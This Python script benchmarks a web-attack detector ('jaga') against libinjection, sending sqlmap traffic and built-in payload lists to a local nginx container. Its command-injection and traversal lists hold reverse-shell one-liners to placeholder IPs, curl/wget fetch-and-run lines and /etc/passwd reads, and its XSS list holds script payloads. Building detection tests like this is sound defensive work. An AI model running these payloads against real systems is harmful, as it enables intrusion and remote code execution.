#!/usr/bin/env python3
"""Detection rate and false positives of jaga's built-in web rules, beside
libinjection, on the same requests.

Attack traffic: sqlmap (from PyPI) at --level 3 --risk 2 against the nginx
test container through its loopback port, plus corpora of our own (XSS,
traversal, command injection). Benign traffic: ordinary requests, including
search queries with quotes and words like "select", paths with dots and long
cookies. All of it goes through the real nginx; the access log lines are
read back with `docker logs` and judged by `jaga logtest --format json`.
libinjection (PyPI libinjection-python) judges the decoded query values of
the same lines (SQLi and XSS detectors).

A request "carries a payload" when its query differs from the baseline
(`id=1`) sqlmap starts from; sqlmap's own baseline requests are not counted.

Usage: python3 bench/detection_eval.py [--jaga target/release/jaga]
Needs scripts/testbed.sh; creates a venv under /tmp for sqlmap and libinjection.
"""

import argparse
import json
import os
import random
import socket
import subprocess
import sys
import time
import urllib.parse
import urllib.request

VENV = "/tmp/jaga-eval-venv"

XSS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
       "javascript:alert(1)", "<iframe src=javascript:alert(1)>", "'><body onload=prompt(1)>",
       "<a href=\"javascript:confirm(1)\">x</a>", "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
       "<details open ontoggle=alert(1)>", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
       "\"onmouseover=\"alert(1)", "<math><mtext><script>alert(1)</script>", "<input autofocus onfocus=alert(1)>",
       "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<body background=javascript:alert(1)>",
       "<object data=\"data:text/html,<script>alert(1)</script>\">", "<ScRiPt>alert(String.fromCharCode(88))</ScRiPt>",
       "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "<svg><animate onbegin=alert(1) attributeName=x>"]
TRAVERSAL = ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%252e%252e%252fetc%252fshadow",
             "....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "php://filter/resource=index.php",
             "file:///etc/passwd", "../../../../boot.ini", "/.git/config", "/.env", "..%c0%af..%c0%afetc/passwd",
             "http://evil.example/shell.txt?", "expect://id", "../../WEB-INF/web.xml"]
CMDI = [";id", "| cat /etc/passwd", "&& whoami", "`uname -a`", "$(wget http://x/y)", ";nc -e /bin/sh 10.0.0.1 4444",
        "|| curl http://evil/x.sh | sh", "%0aid", "127.0.0.1;ls -la", "$(sleep 5)", ";${IFS}cat${IFS}/etc/passwd",
        "& ping -c 3 127.0.0.1", "| busybox nc 1.2.3.4 80", ";bash -i >& /dev/tcp/1.2.3.4/80 0>&1"]
BENIGN_QUERIES = ["how to select a good car", "\"select\" from the menu", "rock & roll", "o'reilly books",
                  "union station parking", "drop shipping for beginners", "where to buy 2x4 lumber",
                  "update my address", "delete account", "C# vs Java", "50% off sale", "1=1 math puzzle",
                  "what does -- mean in bash", "script writing tips", "alert settings iphone", "java script tutorial",
                  "cat food", "ls command linux", "who am i song", "sleep better tips", "order by price",
                  "insert coin", "best select comfort bed", "from here to eternity", "table for two",
                  "I'm \"quoted\"", "a/b testing", "path/to/file.txt", "version 1.2.3", "email@example.com"]
BENIGN_PATHS = ["/", "/index.html", "/about.html", "/docs/v1.2.3/readme.md", "/static/app.min.js", "/img/logo.v2.png",
                "/blog/2026/11/what-is-a-union-type", "/files/report.final.pdf", "/a.b.c/d.e.f", "/shop/items/42"]


def sh(*args, check=True, **kw):
    return subprocess.run(args, check=check, capture_output=True, text=True, **kw)


def venv():
    if not os.path.exists(f"{VENV}/bin/python"):
        sh(sys.executable, "-m", "venv", VENV)
    sh(f"{VENV}/bin/pip", "install", "-q", "sqlmap", "libinjection-python")
    return f"{VENV}/bin/python"


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def get(url, headers=None):
    try:
        urllib.request.urlopen(urllib.request.Request(url, headers=headers or {}), timeout=5).read()
    except Exception:
        pass


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--jaga", default="target/release/jaga")
    args = parser.parse_args()
    python = venv()
    port = free_port()
    name = f"jaga-eval-{os.getpid()}"
    sh("docker", "run", "-d", "--name", name, "-p", f"127.0.0.1:{port}:80", "jaga-test/nginx:latest")
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(50):
            try:
                urllib.request.urlopen(base + "/", timeout=1).read()
                break
            except Exception:
                time.sleep(0.2)
        labels = {}  # marker in the URL -> class
        rnd = random.Random(1)
        # Benign traffic first, tagged by a path prefix.
        for i in range(2000):
            q = urllib.parse.quote_plus(rnd.choice(BENIGN_QUERIES))
            cookie = "session=" + "x" * rnd.randrange(50, 2000)
            get(f"{base}{rnd.choice(BENIGN_PATHS)}?q={q}&page={i}", {"Cookie": cookie, "User-Agent": "Mozilla/5.0 Firefox/120.0"})
        # Our own attack corpora.
        for payloads, param in [(XSS, "q"), (TRAVERSAL, "file"), (CMDI, "host")]:
            for p in payloads:
                get(f"{base}/own/?{param}={urllib.parse.quote(p, safe='%/:')}")
        # sqlmap.
        subprocess.run([f"{VENV}/bin/sqlmap", "-u", f"{base}/users/?id=1", "--batch", "--level", "3", "--risk", "2",
                        "--flush-session", "--random-agent", "--technique", "BEUSTQ", "-v", "0"],
                       capture_output=True, text=True, timeout=1800)
        logs = sh("docker", "logs", name).stdout.splitlines()
        logs = [l for l in logs if '"GET ' in l or '"POST ' in l]
        judged = subprocess.run([args.jaga, "logtest", "--format", "json"], input="\n".join(logs) + "\n",
                                capture_output=True, text=True, check=True).stdout.splitlines()
        verdicts = [json.loads(l) for l in judged]
        lib = subprocess.run([python, "-c", LIBINJECTION], input="\n".join(logs) + "\n", capture_output=True, text=True, check=True)
        lib_verdicts = [l == "1" for l in lib.stdout.splitlines()]
        stats = {"benign": [0, 0, 0], "sqlmap": [0, 0, 0], "own": [0, 0, 0]}
        missed, false_alarms = [], []
        for v, lib_hit in zip(verdicts, lib_verdicts):
            url = v["fields"].get("url", "")
            query = v["fields"].get("query", "")
            # Per-request verdicts: the burst rules (93190, 93195) judge
            # traffic over time, not a request, and are left out.
            attack_rules = [r for r in v["rules"] if r["level"] >= 5 and r["id"] not in ("93190", "93195")]
            if url.startswith("/own/"):
                cls = "own"
            elif url.startswith("/users/"):
                if urllib.parse.unquote_plus(query) in ("id=1", ""):
                    continue  # sqlmap's baseline requests carry no payload
                cls = "sqlmap"
            else:
                cls = "benign"
            stats[cls][0] += 1
            stats[cls][1] += bool(attack_rules)
            if cls != "benign" and not attack_rules:
                missed.append(v["line"])
            if cls == "benign" and attack_rules:
                false_alarms.append(v["line"])
            stats[cls][2] += lib_hit
        print(f"{'traffic':10} {'requests':>9} {'jaga':>16} {'libinjection':>16}")
        for cls, (n, jaga_hits, lib_hits) in stats.items():
            if n == 0:
                continue
            what = "false positives" if cls == "benign" else "detected"
            print(f"{cls:10} {n:9} {jaga_hits:7} {100 * jaga_hits / n:6.2f}% {lib_hits:7} {100 * lib_hits / n:6.2f}%   ({what})")
        with open("/tmp/jaga-eval-missed.txt", "w") as f:
            f.write("\n".join(missed) + "\n")
        with open("/tmp/jaga-eval-false-alarms.txt", "w") as f:
            f.write("\n".join(false_alarms) + "\n")
        print(f"missed attacks in /tmp/jaga-eval-missed.txt, false alarms in /tmp/jaga-eval-false-alarms.txt")
        attacks = stats["sqlmap"][0] + stats["own"][0]
        if attacks:
            print(f"all attacks: jaga {100 * (stats['sqlmap'][1] + stats['own'][1]) / attacks:.2f}%, "
                  f"libinjection {100 * (stats['sqlmap'][2] + stats['own'][2]) / attacks:.2f}% detected")
    finally:
        sh("docker", "rm", "-f", name, check=False)


LIBINJECTION = r'''
import sys, re, urllib.parse
import libinjection
for line in sys.stdin:
    m = re.search(r'"[A-Z]+ (\S+) HTTP', line)
    hit = False
    if m and "?" in m.group(1):
        for _, value in urllib.parse.parse_qsl(m.group(1).split("?", 1)[1], keep_blank_values=True):
            r1 = libinjection.is_sql_injection(value)
            r2 = libinjection.is_xss(value)
            if (r1.get("is_sqli") if isinstance(r1, dict) else r1) or (r2.get("is_xss") if isinstance(r2, dict) else r2):
                hit = True
    print("1" if hit else "0")
'''

if __name__ == "__main__":
    main()
